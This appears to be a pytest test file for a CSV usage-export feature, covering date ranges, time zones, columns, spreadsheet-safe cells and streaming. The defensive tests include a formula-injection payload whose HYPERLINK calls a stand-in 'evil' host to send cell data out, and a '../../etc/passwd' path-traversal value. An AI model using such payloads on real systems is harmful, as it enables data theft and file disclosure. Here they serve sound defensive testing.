"""Exports: the documented columns, safe cells, up to three months, in any time zone."""

from __future__ import annotations

import csv
import io
import tracemalloc
from collections.abc import Iterable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.core.book import Meter
from gateway.core.events import Event, Posted
from gateway.usage.export import ROWS_A_PIECE, columns, csv_pieces, parse_export, safe_cell
from tests.core.terms_making import us
from tests.journal.making import event

METERS = {"coins": Meter("coins", title="Coins"), "uc": Meter("uc", 2, "Usage Credits")}
RANGE = {"from": "2026-01-01", "to": "2026-04-01"}
HEADER = ["timestamp", "user", "event type", "source", "service", "operation", "coin cost"]


def table(events: Iterable[Event], **parameters: str) -> list[list[str]]:
    query = parse_export({**RANGE, **parameters}, METERS)
    text = b"".join(csv_pieces(events, query)).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


# -- what is asked for ------------------------------------------------------------


def test_three_months_to_the_instant() -> None:
    for start, end in (
        ("2026-01-01", "2026-04-01"),
        ("2025-11-30", "2026-02-28"),
        ("2026-12-31T10:00:00Z", "2027-03-31T10:00:00Z"),
        ("2026-03-01", "2026-03-01"),
    ):
        wanted = parse_export({"from": start, "to": end}, METERS).wanted
        assert (wanted.from_us or 0) <= (wanted.to_us or 0)
    for start, end in (
        ("2026-01-01", "2026-04-01T00:00:00.000001Z"),
        ("2025-11-30", "2026-03-01"),
        ("2026-01-01", "2026-04-02"),
        ("2026-01-01", "2027-01-01"),
    ):
        with pytest.raises(ValueError, match=r"^to: expected a range of up to 3 months"):
            parse_export({"from": start, "to": end}, METERS)


def test_dates_are_days_of_the_time_zone() -> None:
    query = parse_export({**RANGE, "timezone": "Europe/Kyiv"}, METERS)
    assert query.wanted.from_us == us("2025-12-31T22:00")
    assert query.wanted.to_us == us("2026-03-31T21:00")  # summer time has begun: still 3 months


@pytest.mark.parametrize(
    ("parameters", "wrong"),
    [
        ({"from": "2026-01-01"}, "from, to"),
        ({"to": "2026-01-01"}, "from, to"),
        ({}, "from, to"),
        ({"from": "2026-02-01", "to": "2026-01-01"}, "to"),
        ({"from": "yesterday", "to": "2026-01-01"}, "from"),
        ({"from": "1969-12-01", "to": "1970-01-02"}, "from"),
        ({"from": "0001-01-01", "to": "0001-01-02"}, "from"),
        ({"from": "9999-01-01", "to": "9999-01-02"}, "from"),
        ({**RANGE, "timezone": "Mars/Olympus"}, "timezone"),
        ({**RANGE, "timezone": ""}, "timezone"),
        ({**RANGE, "timezone": "../../etc/passwd"}, "timezone"),
        ({**RANGE, "timezone": "x" * 4000}, "timezone"),
        ({**RANGE, "meter": "gold"}, "meter"),
        ({**RANGE, "limit": "5"}, "limit"),
        ({**RANGE, "cursor": "x"}, "cursor"),
        ({**RANGE, "colour": "red"}, "colour"),
    ],
)
def test_what_is_wrong_is_named(parameters: dict[str, str], wrong: str) -> None:
    with pytest.raises(ValueError, match=f"^{wrong}: expected"):
        parse_export(parameters, METERS)


# -- what is written ----------------------------------------------------------------


def test_exactly_the_documented_columns() -> None:
    made = event(
        1, time_us=us("2026-03-02T10:15") + 120_317, user="ada", source="203.0.113.7",
        operation="REST API call", charges=(Posted("coins", 3, 0),),
    )  # fmt: skip
    assert table([made]) == [
        HEADER,
        ["2026-03-02T10:15:00.120317Z", "ada", "charged", "203.0.113.7", "demo", "REST API call",
         "3"],
    ]  # fmt: skip


def test_the_cost_is_the_meters_whatever_lots_paid() -> None:
    charges = (
        Posted("uc", 1, 0),
        Posted("uc", 2, 0, "bundle"),
        Posted("uc", 3, 0, "@day"),
        Posted("coins", 7, 0),
    )
    rows = table([event(1, charges=charges), event(2, charges=())], meter="uc")
    assert [row[-1] for row in rows] == ["usage credit cost", "0.03", "0.00"]
    assert [row[-1] for row in table([event(1, charges=charges)])] == ["coin cost", "7"]


def test_times_in_another_zone_say_so() -> None:
    made = [event(1, time_us=us("2026-01-05T10:00")), event(2, time_us=us("2026-07-05T10:00"))]
    rows = table(made, timezone="Europe/Kyiv")
    assert [row[0] for row in rows[1:]] == [
        "2026-01-05T12:00:00+02:00",
        "2026-07-05T13:00:00+03:00",
    ]


def test_other_titles() -> None:
    query = parse_export(RANGE, METERS)
    titles = ["When", "Who", "What", "From", "Service", "Operation", "Price"]
    assert (
        b"".join(csv_pieces([], query, titles)) == b"When,Who,What,From,Service,Operation,Price\r\n"
    )
    assert columns(Meter("glass", title="Glass"))[-1] == "glass cost"
    assert columns(Meter("calls"))[-1] == "call cost"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_cells_that_a_spreadsheet_would_run_are_text(start: str) -> None:
    attack = f'{start}HYPERLINK("http://evil/?"&A1,"open")'
    rows = table([event(1, user=attack, operation=attack)])
    assert rows[1][1] == rows[1][5] == "'" + attack


@given(st.text(max_size=20))
def test_cells_stay_what_they_are_otherwise(text: str) -> None:
    cell = safe_cell(text)
    assert cell in (text, f"'{text}")
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
def test_any_text_survives_quoting(names: list[str]) -> None:
    rows = table([event(n, user=name, operation="x") for n, name in enumerate(names)])
    said = [name.encode("utf-8", "replace").decode() for name in names]
    assert [row[1] for row in rows[1:]] == [safe_cell(name) for name in said]


@pytest.mark.parametrize("count", [0, 1, ROWS_A_PIECE - 1, ROWS_A_PIECE, 2 * ROWS_A_PIECE + 3])
def test_pieces_are_never_empty_and_have_every_row(count: int) -> None:
    query = parse_export(RANGE, METERS)
    pieces = list(csv_pieces((event(n) for n in range(count)), query))
    assert all(pieces)
    assert b"".join(pieces).count(b"\r\n") == count + 1


def test_memory_does_not_grow_with_the_rows() -> None:
    query = parse_export(RANGE, METERS)

    def peak(count: int) -> int:
        tracemalloc.start()
        for _ in csv_pieces((event(n) for n in range(count)), query):
            pass
        found = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return found

    peak(ROWS_A_PIECE)
    assert peak(20 * ROWS_A_PIECE) < 1.5 * peak(2 * ROWS_A_PIECE)
